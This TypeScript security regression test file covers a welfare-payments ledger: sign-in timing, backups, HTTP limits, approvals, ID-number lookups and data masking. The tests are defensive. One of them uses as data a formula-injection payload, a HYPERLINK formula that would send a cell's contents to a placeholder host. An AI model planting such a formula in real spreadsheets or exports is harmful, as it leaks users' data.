// @dated (tests/tools/check-tests.mjs): run again under faketime by .ci/run
// @alone (tests/tools/unit.mjs): 12 compares sign-in times, so no other file runs beside it
// The holes found when the ledger was attacked through its own API with a clerk's account (issue 13), each closed
// and held shut by a test through the dispatcher or the web host.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';

import ExcelJS from 'exceljs';

import { dailyBackup } from '../../main/core/backupFiles';
import { newSession } from '../../main/core/dispatch';
import { Ledger } from '../../main/core/ledger';
import { idNumberFor } from '../../main/demo/fictional';
import { buildRegistry } from '../bench/registry';
import { ROOT, runCli, startHost } from '../e2e/host';
import { must, refused, tempDir, testClock, world } from './helpers';
import { paymentsWorld } from './paymentsSetup';

/** Median milliseconds of a few sign-in attempts. */
async function signInTime(attempt: () => Promise<unknown>, runs = 3): Promise<number> {
  const times: number[] = [];
  for (let i = 0; i < runs; i++) {
    const t = performance.now();
    await attempt();
    times.push(performance.now() - t);
  }
  return times.sort((a, b) => a - b)[Math.floor(runs / 2)];
}

test('12. sign-in: unknown, existing and locked usernames hear the same words in the same time', async () => {
  const w = await world({ hashing: 'real' });
  await w.admin();
  await w.staff('locked', ['clerk']);
  const attempt = (username: string, password = 'wrong-pass') =>
    w.call(newSession(), 'session.signIn', { username, password });
  for (let i = 0; i < 5; i++) await attempt('locked');
  const answers = await Promise.all(['nobody', 'admin', 'locked'].map(async (u) => refused(await attempt(u)).message));
  assert.deepEqual(new Set(answers).size, 1, `one answer for all: ${answers.join(' | ')}`);
  // Each answer costs one password derivation (scrypt, ~0.1–0.5 s here), so none is quick.
  const known = await signInTime(() => attempt('admin'));
  for (const u of ['nobody', 'locked']) {
    const t = await signInTime(() => attempt(u));
    assert.ok(t > known * 0.5 && t < known * 2, `${u}: ${t.toFixed(0)} ms against ${known.toFixed(0)} ms`);
  }
  // The right password to a locked account hears the same words in the same time: the lock tells a guesser nothing.
  assert.equal(refused(await attempt('locked', 'staff-pass-1')).message, answers[0]);
  const right = await signInTime(() => attempt('locked', 'staff-pass-1'));
  assert.ok(right > known * 0.5 && right < known * 2, `right password while locked: ${right.toFixed(0)} ms`);
  // The lock screen likewise: five wrong passwords lock the account and end the session; the right one, typed
  // into a second seat's lock screen while locked, hears the same refusal and unlocks nothing.
  const seat = await w.staff('seat', ['clerk']);
  const other = newSession();
  must(await w.call(other, 'session.signIn', { username: 'seat', password: 'staff-pass-1' }));
  must(await w.call(other, 'session.lock', {}));
  for (let i = 0; i < 5; i++) refused(await w.call(seat, 'session.unlock', { password: 'wrong-pass' }));
  assert.equal(seat.staff, null, 'the locked account ends the seat');
  const e = refused(await w.call(other, 'session.unlock', { password: 'staff-pass-1' }));
  assert.equal(e.message, answers[0]);
  assert.ok(other.staff === null || other.locked, 'still locked');
});

test('13. money at most 100,000,000 yuan; a wrong letter in an 18-character ID is named, not counted', async () => {
  const w = await world();
  const admin = await w.admin();
  const areaId = must(await w.call(admin, 'areas.save', { name: '东山村' })).id;
  const clerk = await w.staff('li', ['clerk']);
  const id = idNumberFor('1960-05-01', 3, false);
  const h = must(
    await w.call(clerk, 'households.create', { areaId, members: [{ name: '张三', idNumber: id, relation: '户主' }] }),
  );
  const register = (amount: string) =>
    w.call(clerk, 'applications.register', {
      householdId: h.id,
      personId: h.members[0].id,
      kindCode: 'medical_relief',
      reason: '住院',
      amount,
      materials: [],
    });
  const e = refused(await register('100000000.99'));
  assert.deepEqual([e.field, e.message], ['amount', '金额不能超过 100,000,000 元，请核对']);
  must(await register('100000000.00'));
  const bad = id.slice(0, 10) + 'A' + id.slice(11);
  const m = refused(await w.call(clerk, 'persons.checkId', { idNumber: bad })).message;
  assert.equal(m, '身份证号只能是数字（最后一位可以是 X），“A”不对');
  assert.equal(w.count('applications'), 1);
});

test('8. formula injection: names like =HYPERLINK refused at entry; the bank CSV and roster .xlsx keep them as text', async () => {
  const pw = await paymentsWorld();
  const { w, clerk, approver, household, approved, areaId } = pw;
  const FORMULA = '=HYPERLINK("http://x/?"&A1,"点")';
  const member = { name: FORMULA, idNumber: idNumberFor('1950-02-02', 7, false), relation: '户主' as const };
  const e = refused(await w.call(clerk, 'households.create', { areaId, members: [member] }));
  assert.deepEqual([e.field, e.message], ['members.0.name', '姓名不能以 = + - @ 开头']);
  for (const bad of ['+1', '-1', '@SUM(A1)']) {
    const r = refused(
      await w.call(clerk, 'cadres.save', { name: bad, unit: '', phone: '', partyMember: true, active: true }),
    );
    assert.equal(r.field, 'name', bad);
  }
  // A name that reached the ledger another way (an old file, a hand edit) is still written as text.
  const h = await household('周一');
  w.ledger.db.prepare('UPDATE persons SET name = ? WHERE id = ?').run(FORMULA, h.members[0].id);
  must(
    await w.call(clerk, 'entitlements.save', {
      applicationId: await approved(h, 'elderly_allowance', '200'),
      startMonth: '2026-11',
      endMonth: null,
    }),
  );
  const b = must(await w.call(clerk, 'payroll.create', { month: '2026-11', kindCode: null }));
  must(await w.call(approver, 'payroll.approve', { id: b.id }));
  const csv = Buffer.from(must(await w.call(approver, 'payroll.bankFile', { id: b.id })).base64, 'base64').toString();
  assert.ok(csv.includes(`"'=HYPERLINK(""http://x/?""&A1,""点"")"`), csv);
  const xlsx = must(await w.call(clerk, 'payroll.rosterXlsx', { id: b.id }));
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(xlsx.base64, 'base64') as never);
  const cells: ExcelJS.Cell[] = [];
  wb.worksheets[0].eachRow((row) => row.eachCell((c) => cells.push(c)));
  const cell = cells.find((c) => String(c.value).includes('HYPERLINK'))!;
  assert.equal(cell.type, ExcelJS.ValueType.String, 'a string cell, never a formula');
});

test("4. the ledger, its WAL, the backups folder and every backup are the user's only; secure_delete is on", async () => {
  const w = await world();
  const admin = await w.admin();
  const usb = tempDir();
  const made = must(await w.call(admin, 'backup.create', { folder: usb }));
  must(await w.call(admin, 'backup.create', {}));
  const mode = (f: string) => fs.statSync(f).mode & 0o777;
  assert.equal(mode(w.ledger.file), 0o600);
  assert.equal(mode(w.ledger.file + '-wal'), 0o600);
  assert.equal(mode(w.ledger.backupsDir), 0o700);
  for (const b of fs.readdirSync(w.ledger.backupsDir)) assert.equal(mode(path.join(w.ledger.backupsDir, b)), 0o600, b);
  assert.equal(mode(made.path), 0o600);
  assert.equal(w.ledger.db.pragma('secure_delete', { simple: true }), 1);
  // An older, world-readable ledger is closed up when it is opened.
  await w.ledger.close({ backup: false });
  fs.chmodSync(w.ledger.file, 0o644);
  const again = await Ledger.open(w.ledger.file, { clock: testClock, keys: w.ledger.keys });
  assert.equal(mode(w.ledger.file), 0o600);
  await again.close({ backup: false });
});

test('9. backups belong to one ledger: two ledgers in one folder keep theirs apart; a foreign backup is refused', async () => {
  const w = await world();
  const admin = await w.admin();
  const other = path.join(w.dir, 'other.sqlite');
  const b = await Ledger.open(other, { clock: w.clock.now });
  b.db.prepare(`INSERT INTO settings (key, value) VALUES ('marker', '"b"')`).run();
  await b.close();
  assert.notEqual(b.backupsDir, w.ledger.backupsDir);
  // The next morning the other ledger opens first; this one still gets its own daily backup.
  w.clock.advanceMinutes(24 * 60);
  const b2 = await Ledger.open(other, { clock: w.clock.now, keys: b.keys });
  assert.ok(fs.readdirSync(b2.backupsDir).some((f) => f.endsWith('-daily.sqlite')));
  assert.ok(await dailyBackup(w.ledger));
  // The other ledger's backup, copied into this one's folder, is refused by restore.
  const foreign = fs.readdirSync(b2.backupsDir).find((f) => f.endsWith('-exit.sqlite'))!;
  fs.copyFileSync(path.join(b2.backupsDir, foreign), path.join(w.ledger.backupsDir, foreign));
  must(await w.call(admin, 'session.unlock', { password: 'admin-pass-1' }));
  const e = refused(await w.call(admin, 'backup.restore', { file: foreign }));
  assert.deepEqual([e.field, e.message], ['file', '这个备份属于另一个台账（本台账的钥匙打不开它），不能用来恢复']);
  assert.equal(w.one(`SELECT count(*) AS n FROM settings WHERE key = 'marker'`).n, 0);
  await b2.close({ backup: false });
});

test('10. a second host on a ledger already open is refused, naming who holds it; a stale lock is taken over', async () => {
  const dir = tempDir();
  const file = path.join(dir, 'ledger.sqlite');
  const first = await startHost({ db: file });
  const second = await runCli(['--db', file, '--no-open']);
  assert.equal(second.code, 2);
  assert.match(second.stderr, new RegExp(`正在被另一个程序使用（${os.hostname()} 上的进程 ${first.proc.pid}`));
  assert.equal(await first.stop(), 0);
  // A holder killed without a clean exit leaves its lock behind; the next start sees its process is gone.
  const killed = await startHost({ db: file });
  killed.proc.kill('SIGKILL');
  await new Promise((r) => killed.proc.once('exit', r));
  assert.ok(fs.existsSync(file + '.lock'));
  const next = await startHost({ db: file });
  assert.equal(await next.stop(), 0);
  assert.equal(fs.existsSync(file + '.lock'), false);
});

test('11. HTTP edges: 413 over 10 MB, no body read without the token, 400 for bad paths, the token printed once', async () => {
  const h = await startHost();
  const post = (headers: Record<string, string>, body: string, p = 'api/setup.state') =>
    fetch(`${h.base}${p}`, { method: 'POST', headers: { 'Content-Type': 'application/json', ...headers }, body });
  const big = ' '.repeat(11 * 1024 * 1024);
  const over = await post({ 'X-Bianmin-Token': h.token }, big);
  assert.equal(over.status, 413);
  assert.equal(((await over.json()) as { error: { message: string } }).error.message, '请求内容超过 10 MB');
  const noToken = await post({}, '{}');
  assert.equal(noToken.status, 401);
  assert.equal(noToken.headers.get('connection'), 'close');
  for (const bad of ['%', '%00', '%C0%AF', 'api/%E0%A4%A']) {
    const r = await fetch(`${h.base}${bad}`);
    assert.equal(r.status, 400, bad);
  }
  assert.equal((await post({ 'X-Bianmin-Token': h.token }, '{}', 'api/%')).status, 400);
  assert.equal(await h.stop(), 0);
  const printed = (h.stdout() + h.stderr()).split(h.token).length - 1;
  assert.equal(printed, 1, 'the token appears only in the listening line');
  assert.doesNotMatch(h.stderr(), /URIError|at .*\.cjs/, 'no stack trace in the log');
});

test('5. whoever made or changed a batch may not approve it; posting checks every row again and posts none if one fails', async () => {
  const pw = await paymentsWorld();
  const { w, clerk, approver, approver2, household, approved } = pw;
  const hs = [await household('周一'), await household('吴二')];
  for (const h of hs) {
    const applicationId = await approved(h, 'elderly_allowance', '200');
    must(await w.call(clerk, 'entitlements.save', { applicationId, startMonth: '2026-11', endMonth: null }));
  }
  const b = must(await w.call(clerk, 'payroll.create', { month: '2026-11', kindCode: null }));
  const rows = must(await w.call(clerk, 'payroll.rows', { batchId: b.id })).rows;
  const row = { batchId: b.id, entitlementId: rows[1].entitlementId, forMonth: '2026-11' };
  must(await w.call(clerk, 'payroll.exclude', { ...row, reason: '已去世，待核实' }));
  // The approver puts the row back: now the approver is the maker and may not approve it.
  must(await w.call(approver, 'payroll.exclude', { ...row, reason: null }));
  assert.match(refused(await w.call(approver, 'payroll.approve', { id: b.id })).message, /是您制作的/);
  // Meanwhile the second household left the ledger: the third person's approval is refused whole.
  must(await w.call(clerk, 'households.exit', { id: hs[1].id, exitedOn: '2026-11-23', reason: '迁出本镇' }));
  const e = refused(await w.call(approver2, 'payroll.approve', { id: b.id }));
  assert.equal(e.message, '吴二 2026-11：已退出台账，不能发放。请剔除这一行后再审批');
  assert.equal(w.count('payments'), 0);
  assert.equal(must(await w.call(clerk, 'payroll.get', { id: b.id })).state, 'draft');
});

test('7. dates that cannot be: an exit before registration, a batch posted before its month has begun', async () => {
  const pw = await paymentsWorld();
  const { w, clerk, approver, household, approved } = pw;
  const h = await household('郑三');
  const e = refused(await w.call(clerk, 'households.exit', { id: h.id, exitedOn: '2026-11-01', reason: '迁出' }));
  assert.deepEqual([e.field, e.message], ['exitedOn', '退出日期不能早于登记日期 2026-11-23']);
  const applicationId = await approved(h, 'elderly_allowance', '200');
  must(await w.call(clerk, 'entitlements.save', { applicationId, startMonth: '2026-11', endMonth: null }));
  const december = must(await w.call(clerk, 'payroll.create', { month: '2026-12', kindCode: null }));
  const r = refused(await w.call(approver, 'payroll.approve', { id: december.id }));
  assert.equal(r.message, '2026年12月还没有开始，不能提前发放该月的待遇');
  assert.equal(w.count('payments'), 0);
});

test('2, 3. phones masked in lists and exports; every export and list print leaves an audit row with its size', async () => {
  const pw = await paymentsWorld();
  const { w, clerk, approver, household, approved, areaId } = pw;
  const phone = '13912344795';
  const h = must(
    await w.call(clerk, 'households.create', {
      areaId,
      phone,
      members: [{ name: '王五', idNumber: idNumberFor('1948-03-03', 11, false), relation: '户主' }],
    }),
  );
  assert.equal(must(await w.call(clerk, 'households.get', { id: h.id })).phone, phone, 'whole on its own page');
  assert.equal(must(await w.call(clerk, 'households.list', { q: '王五' })).rows[0].phone, '139****4795');
  const xlsx = must(await w.call(clerk, 'households.export', {}));
  assert.ok(!Buffer.from(xlsx.base64, 'base64').includes(phone), 'not in the export');
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(xlsx.base64, 'base64') as never);
  assert.ok(JSON.stringify(wb.worksheets[0].getSheetValues()).includes('139****4795'));
  // Exports and prints of lists are audited: who, what, how many rows.
  const h2 = await household('赵六');
  const applicationId = await approved(h2, 'elderly_allowance', '200');
  must(await w.call(clerk, 'entitlements.save', { applicationId, startMonth: '2026-11', endMonth: null }));
  const b = must(await w.call(clerk, 'payroll.create', { month: '2026-11', kindCode: null }));
  must(await w.call(approver, 'payroll.approve', { id: b.id }));
  must(await w.call(clerk, 'payroll.rosterXlsx', { id: b.id }));
  must(await w.call(clerk, 'payroll.roster', { id: b.id }));
  must(await w.call(clerk, 'reports.xlsx', { year: 2026 }));
  must(await w.call(clerk, 'applications.publicity', {}));
  const rows = w.ledger.db
    .prepare(
      `SELECT channel, staff_id AS staffId, after FROM audit_log WHERE entity IN ('export', 'print') ORDER BY id`,
    )
    .all() as { channel: string; staffId: number; after: string }[];
  assert.deepEqual(
    rows.map((r) => [r.channel, r.staffId, (JSON.parse(r.after) as { rows: number }).rows]),
    [
      ['households.export', clerk.staff!.id, 1],
      ['payroll.rosterXlsx', clerk.staff!.id, 1],
      ['payroll.roster', clerk.staff!.id, 1],
      ['reports.xlsx', clerk.staff!.id, JSON.parse(rows[3].after).rows],
      ['applications.publicity', clerk.staff!.id, 0],
    ],
  );
});

test('14. the desktop build: fuses flipped, redirects guarded, one window per ledger (read from the shipped files)', () => {
  // The Electron binary cannot be downloaded here, so the configuration and the shell are read, not run.
  const builder = fs.readFileSync(path.join(ROOT, 'electron-builder.yml'), 'utf8');
  const fuses = builder.slice(builder.indexOf('electronFuses:')).split('\n').slice(1, 8).join('\n');
  for (const [fuse, on] of [
    ['runAsNode', false],
    ['enableCookieEncryption', true],
    ['enableNodeOptionsEnvironmentVariable', false],
    ['enableNodeCliInspectArguments', false],
    ['enableEmbeddedAsarIntegrityValidation', true],
    ['onlyLoadAppFromAsar', true],
  ] as const)
    assert.match(fuses, new RegExp(`^  ${fuse}: ${on}$`, 'm'), fuse);
  const shell = fs.readFileSync(path.join(ROOT, 'main', 'electron', 'main.ts'), 'utf8');
  assert.match(
    shell,
    /wc\.on\('will-redirect', \(e, url\) => \{\n\s+if \(new URL\(url\)\.origin !== ORIGIN\) e\.preventDefault\(\);/,
  );
  assert.match(shell, /app\.setPath\('userData', path\.join\(app\.getPath\('userData'\), 'ledgers', key\)\);/);
  assert.match(
    shell,
    /if \(!app\.requestSingleInstanceLock\(\)\) return app\.quit\(\);\n\s+app\.on\('second-instance', focusWindow\);/,
  );
});

test('1. a full ID number is no oracle: lookups audited and limited to 20 a minute per staff member; a clerk sees no holder, no birth date', async () => {
  const w = await world();
  const admin = await w.admin();
  const areaId = must(await w.call(admin, 'areas.save', { name: '东山村' })).id;
  const clerk = await w.staff('li', ['clerk']);
  const id = idNumberFor('1972-04-11', 5, false);
  const h = must(
    await w.call(clerk, 'households.create', { areaId, members: [{ name: '张三', idNumber: id, relation: '户主' }] }),
  );
  // What the clerk's household page gives: the masked number and the birth year, not the date.
  const member = must(await w.call(clerk, 'households.get', { id: h.id })).members[0];
  assert.deepEqual([member.idMasked, member.birthDate], [`${id.slice(0, 4)}**********${id.slice(-4)}`, '1972']);
  // A guess confirmed by a name is the oracle: the clerk's check says only that the number is taken.
  const e = refused(await w.call(clerk, 'persons.checkId', { idNumber: id }));
  assert.equal(e.message, '这个身份证号已在台账中登记，不能重复登记。请审核人核对是哪一户');
  assert.ok(!e.message.includes('张三') && e.link === undefined);
  // Every lookup is audited, masked. The same number again the same day tells nothing new and costs nothing; each new
  // one counts, and the 21st call within a minute is refused.
  const counted = () =>
    w.ledger.db
      .prepare(`SELECT count(*) AS n FROM audit_log WHERE entity = 'lookup' AND json_extract(after, '$.n') > 0`)
      .get() as {
      n: number;
    };
  assert.equal(counted().n, 1, 'the registration and the check of the same number: one lookup');
  for (let i = 2; i <= 20; i++)
    must(await w.call(clerk, 'households.list', { q: idNumberFor('1972-04-11', 10 + i, false) }));
  const limited = refused(await w.call(clerk, 'households.list', { q: idNumberFor('1972-04-11', 40, false) }));
  assert.match(limited.message, /^按身份证号核对过于频繁（每人每分钟最多 20 次），请一分钟后再试/);
  const audited = w.ledger.db.prepare(`SELECT after FROM audit_log WHERE entity = 'lookup'`).all() as {
    after: string;
  }[];
  assert.equal(counted().n, 20);
  assert.equal(audited.length, 22, 'twenty lookups, the free check and the refusal');
  assert.ok(audited.every((r) => !r.after.includes(id) && !r.after.includes(id.slice(0, 10))));
  // A four-character tail is what every list shows: it costs nothing; after a minute the search answers again.
  must(await w.call(clerk, 'households.list', { q: id.slice(-4) }));
  w.clock.advanceMinutes(1.1);
  assert.equal(must(await w.call(clerk, 'households.list', { q: id })).total, 1);
});

test('6. a 公示 cannot be backdated, except by an admin within 3 working days with a reason; approval waits it out', async () => {
  const pw = await paymentsWorld();
  const { w, admin, clerk, reviewer, approver, household, advanceDays } = pw;
  const onTo = async (name: string) => {
    const h = await household(name);
    const id = await pw.register(h, 'medical_relief', '3000');
    const visit = {
      id,
      investigators: ['李一', '王二'] as [string, string],
      visitedOn: '2026-11-23',
      findings: '属实',
    };
    must(await w.call(clerk, 'applications.investigate', visit));
    must(await w.call(reviewer, 'applications.review', { id, opinion: '同意' }));
    return id;
  };
  const a = await onTo('周一');
  const month = refused(await w.call(reviewer, 'applications.publicize', { id: a, fromDate: '2026-10-23' }));
  assert.deepEqual(
    [month.field, month.message],
    ['fromDate', '公示开始日期不能早于今天（已开始的公示须由管理员填写原因补登）'],
  );
  // An admin (who is also a reviewer) records a notice posted on Thursday, with a reason; a week back is too far.
  must(
    await w.call(admin, 'staff.update', {
      id: admin.staff!.id,
      displayName: '王管理',
      roles: ['admin', 'reviewer'],
      active: true,
    }),
  );
  const reason = '公示栏已于周四张贴，系统补登';
  const far = refused(
    await w.call(admin, 'applications.publicize', { id: a, fromDate: '2026-11-16', backdateReason: reason }),
  );
  assert.equal(far.message, '补登的公示只能是最近 3 个工作日内开始的');
  const p = must(
    await w.call(admin, 'applications.publicize', { id: a, fromDate: '2026-11-19', backdateReason: reason }),
  );
  assert.deepEqual(
    [p.publicityFrom, p.publicityTo, p.steps.at(-1)!.detail.backdated],
    ['2026-11-19', '2026-11-25', reason],
  );
  // Approval is refused until the whole period has passed: on its last day still, the day after it is allowed.
  const b = await onTo('吴二');
  must(await w.call(reviewer, 'applications.publicize', { id: b, fromDate: '2026-11-23' }));
  await advanceDays(6);
  assert.match(
    refused(await w.call(approver, 'applications.approve', { id: b, amount: '3000' })).message,
    /公示期满后/,
  );
  await advanceDays(1);
  must(await w.call(approver, 'applications.approve', { id: b, amount: '3000' }));
});

test('15. a sort larger than memory allows writes no temporary file: no ID number outside the cipher', async () => {
  // SQLite's temporary files go here (read when the first one is made), and are unlinked as soon as opened: they are
  // found through this process's open descriptors while the sorted rows are being read.
  const tmp = tempDir();
  process.env.SQLITE_TMPDIR = tmp;
  const w = await world();
  buildRegistry(w.ledger.db, 40_000);
  // A sort past a small cache, as a county-scale sort is past the real one: it spills to disk unless kept in memory.
  w.ledger.db.pragma('cache_size = 20');
  const sorted = w.ledger.db
    .prepare('SELECT id_number, name FROM persons ORDER BY substr(id_number, 7), name')
    .iterate() as IterableIterator<{ id_number: string }>;
  const first = sorted.next().value!;
  const spilled = fs
    .readdirSync('/proc/self/fd')
    .map((fd) => {
      try {
        return { fd, to: fs.readlinkSync(`/proc/self/fd/${fd}`) };
      } catch {
        return { fd, to: '' };
      }
    })
    .filter((f) => f.to.startsWith(tmp) || f.to.includes('etilqs_'));
  const texts = [
    ...spilled.map((f) => fs.readFileSync(`/proc/self/fd/${f.fd}`).toString('latin1')),
    ...[tmp, w.dir]
      .flatMap((d) => fs.readdirSync(d).map((f) => path.join(d, f)))
      .filter((f) => fs.statSync(f).isFile())
      .map((f) => fs.readFileSync(f).toString('latin1')),
  ];
  sorted.return?.();
  assert.deepEqual(
    spilled.map((f) => f.to),
    [],
    'no temporary file is open',
  );
  assert.ok(!texts.some((t) => t.includes(first.id_number)), 'no file holds an ID number in clear');
});
